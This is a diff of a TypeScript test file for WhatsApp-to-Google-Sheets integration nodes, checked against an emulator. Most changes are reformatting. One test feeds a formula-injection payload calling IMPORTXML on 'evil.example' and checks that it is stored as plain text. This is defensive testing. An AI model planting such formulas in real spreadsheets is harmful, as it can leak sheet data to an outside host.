@@ -5,7 +5,6 @@ import sheetsNode from "../../src/nodes/wa-sheets";
 import writeNode from "../../src/nodes/wa-sheets-write";
 import { collect, envelope, getNode, helper, helperNode, inTab, useNodeHarness } from "./harness";
 
-
 const nodes = [sheetsNode, writeNode];
 const SPREADSHEET = "1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms";
 
@@ -23,8 +22,28 @@ describe("wa-sheets and wa-sheets-write against the emulator (service-account ke
     await helper.load(
       nodes,
       inTab([
-        { id: "sh1", type: "wa-sheets", spreadsheetId: SPREADSHEET, apiRoot: emulator.url, failureRate: 0.5, minimumCalls: 5, windowSeconds: 60, resetSeconds: 30 },
-        { id: "w1", type: "wa-sheets-write", sheets: "sh1", range: "Log!A1", columns: "wa.message.id, wa.message.chatId, payload", windowMs: 500, maxRows: 100, giveUpMinutes: 15, wires: [["written"], ["dead"]], ...write },
+        {
+          id: "sh1",
+          type: "wa-sheets",
+          spreadsheetId: SPREADSHEET,
+          apiRoot: emulator.url,
+          failureRate: 0.5,
+          minimumCalls: 5,
+          windowSeconds: 60,
+          resetSeconds: 30,
+        },
+        {
+          id: "w1",
+          type: "wa-sheets-write",
+          sheets: "sh1",
+          range: "Log!A1",
+          columns: "wa.message.id, wa.message.chatId, payload",
+          windowMs: 500,
+          maxRows: 100,
+          giveUpMinutes: 15,
+          wires: [["written"], ["dead"]],
+          ...write,
+        },
         helperNode("written"),
         helperNode("dead"),
       ]),
@@ -44,7 +63,8 @@ describe("wa-sheets and wa-sheets-write against the emulator (service-account ke
   it("writes 30 messages as rows in one call, authenticated with the service account's own token", async () => {
     await load(emulator.createServiceAccount());
     const written = collect("written");
-    for (let i = 0; i < 30; i += 1) getNode("w1").receive({ ...envelope(`4477009000${String(i % 3).padStart(2, "0")}@c.us`, `order ${i}`, `wamid.${i}`) });
+    for (let i = 0; i < 30; i += 1)
+      getNode("w1").receive({ ...envelope(`4477009000${String(i % 3).padStart(2, "0")}@c.us`, `order ${i}`, `wamid.${i}`) });
     await until(() => written.length === 30);
     const rows = emulator.model.get(SPREADSHEET, "Log!A1:C100").values ?? [];
     assert.equal(rows.length, 30);
@@ -74,7 +94,10 @@ describe("wa-sheets and wa-sheets-write against the emulator (service-account ke
     getNode("w1").receive(envelope("447700900001@c.us", "x".repeat(50_001), "wamid.2"));
     getNode("w1").receive(envelope("447700900001@c.us", "also fine", "wamid.3"));
     await until(() => written.length + dead.length === 3);
-    assert.deepEqual(written.map((m) => m.payload), ["fine", "also fine"]);
+    assert.deepEqual(
+      written.map((m) => m.payload),
+      ["fine", "also fine"],
+    );
     assert.match((dead[0].error as { message: string }).message, /50000 characters/);
   });
 
@@ -88,7 +111,15 @@ describe("wa-sheets and wa-sheets-write against the emulator (service-account ke
   });
 
   it("upsert: updates the row that has the key, appends the others, in one key read, one update and one append", async () => {
-    emulator.model.update(SPREADSHEET, "Log!A1", [["order-1", "447700900001@c.us", "new"], ["order-9", "447700900009@c.us", "new"]], "RAW");
+    emulator.model.update(
+      SPREADSHEET,
+      "Log!A1",
+      [
+        ["order-1", "447700900001@c.us", "new"],
+        ["order-9", "447700900009@c.us", "new"],
+      ],
+      "RAW",
+    );
     await load(emulator.createServiceAccount(), { mode: "upsert", columns: "orderId, wa.message.chatId, payload" });
     const written = collect("written");
     const at = (orderId: string, status: string) => ({ ...envelope("447700900001@c.us", status, `wamid.${orderId}.${status}`), orderId });
@@ -101,7 +132,10 @@ describe("wa-sheets and wa-sheets-write against the emulator (service-account ke
       ["order-9", "447700900009@c.us", "new"],
       ["order-2", "447700900001@c.us", "paid"],
     ]);
-    assert.deepEqual([emulator.counts.byMethod["values.get"], emulator.counts.byMethod["values.batchUpdate"], emulator.counts.byMethod["values.append"]], [1, 1, 1]);
+    assert.deepEqual(
+      [emulator.counts.byMethod["values.get"], emulator.counts.byMethod["values.batchUpdate"], emulator.counts.byMethod["values.append"]],
+      [1, 1, 1],
+    );
     assert.equal(sheetsOf(written[0]).write!.mode, "upsert");
   });
 
@@ -115,10 +149,50 @@ describe("wa-sheets and wa-sheets-write against the emulator (service-account ke
         { id: "sh1", type: "wa-sheets", spreadsheetId: SPREADSHEET, apiRoot: emulator.url },
         { id: "sh2", type: "wa-sheets", spreadsheetId: "narrow-spreadsheet-01", apiRoot: emulator.url },
         { id: "sh3", type: "wa-sheets", spreadsheetId: "no-such-spreadsheet-9", apiRoot: emulator.url },
-        { id: "good", type: "wa-sheets-write", sheets: "sh1", range: "Log!A1", columns, windowMs: 100, maxRows: 100, giveUpMinutes: 15, wires: [["written"], ["dead"]] },
-        { id: "badRange", type: "wa-sheets-write", sheets: "sh1", range: "Nope!A1", columns, windowMs: 100, maxRows: 100, giveUpMinutes: 15, wires: [["written"], ["dead"]] },
-        { id: "tooWide", type: "wa-sheets-write", sheets: "sh2", range: "Two!A1", columns, windowMs: 100, maxRows: 100, giveUpMinutes: 15, wires: [["written"], ["dead"]] },
-        { id: "unknown", type: "wa-sheets-write", sheets: "sh3", range: "Log!A1", columns, windowMs: 100, maxRows: 100, giveUpMinutes: 15, wires: [["written"], ["dead"]] },
+        {
+          id: "good",
+          type: "wa-sheets-write",
+          sheets: "sh1",
+          range: "Log!A1",
+          columns,
+          windowMs: 100,
+          maxRows: 100,
+          giveUpMinutes: 15,
+          wires: [["written"], ["dead"]],
+        },
+        {
+          id: "badRange",
+          type: "wa-sheets-write",
+          sheets: "sh1",
+          range: "Nope!A1",
+          columns,
+          windowMs: 100,
+          maxRows: 100,
+          giveUpMinutes: 15,
+          wires: [["written"], ["dead"]],
+        },
+        {
+          id: "tooWide",
+          type: "wa-sheets-write",
+          sheets: "sh2",
+          range: "Two!A1",
+          columns,
+          windowMs: 100,
+          maxRows: 100,
+          giveUpMinutes: 15,
+          wires: [["written"], ["dead"]],
+        },
+        {
+          id: "unknown",
+          type: "wa-sheets-write",
+          sheets: "sh3",
+          range: "Log!A1",
+          columns,
+          windowMs: 100,
+          maxRows: 100,
+          giveUpMinutes: 15,
+          wires: [["written"], ["dead"]],
+        },
         helperNode("written"),
         helperNode("dead"),
       ]),
@@ -126,20 +200,21 @@ describe("wa-sheets and wa-sheets-write against the emulator (service-account ke
     );
     const written = collect("written");
     const dead = collect("dead");
-    getNode("good").receive(envelope("447700900001@c.us", "=IMPORTXML(\"http://evil.example\", \"//a\")", "wamid.good1"));
+    getNode("good").receive(envelope("447700900001@c.us", '=IMPORTXML("http://evil.example", "//a")', "wamid.good1"));
     getNode("good").receive(envelope("447700900001@c.us", "+44 7700 900001", "wamid.good2"));
     getNode("badRange").receive(envelope("447700900001@c.us", "x", "wamid.range"));
     getNode("tooWide").receive(envelope("447700900001@c.us", "x", "wamid.wide"));
     getNode("unknown").receive(envelope("447700900001@c.us", "x", "wamid.unknown"));
     await until(() => written.length + dead.length === 5);
     assert.deepEqual(written.map((m) => sheetsOf(m).write!.key).sort(), ["wamid.good1", "wamid.good2"]);
-    const cause = (id: string) => (dead.find((m) => (m.wa as { message: { id: string } }).message.id === id)?.error ?? {}) as { code?: string; message?: string };
+    const cause = (id: string) =>
+      (dead.find((m) => (m.wa as { message: { id: string } }).message.id === id)?.error ?? {}) as { code?: string; message?: string };
     assert.equal(cause("wamid.range").code, "sheets.rejected");
     assert.match(String(cause("wamid.range").message), /Unable to parse range: Nope!/);
     assert.match(String(cause("wamid.wide").message), /exceeds grid limits/);
     assert.match(String(cause("wamid.unknown").message), /Requested entity was not found/);
     const rows = emulator.model.get(SPREADSHEET, "Log!A1:C2", "FORMULA").values ?? [];
-    assert.equal(rows[0][2], "=IMPORTXML(\"http://evil.example\", \"//a\")", "kept as text, not run as a formula");
+    assert.equal(rows[0][2], '=IMPORTXML("http://evil.example", "//a")', "kept as text, not run as a formula");
     assert.equal(rows[1][2], "+44 7700 900001", "a phone number stays as typed");
   });
 });
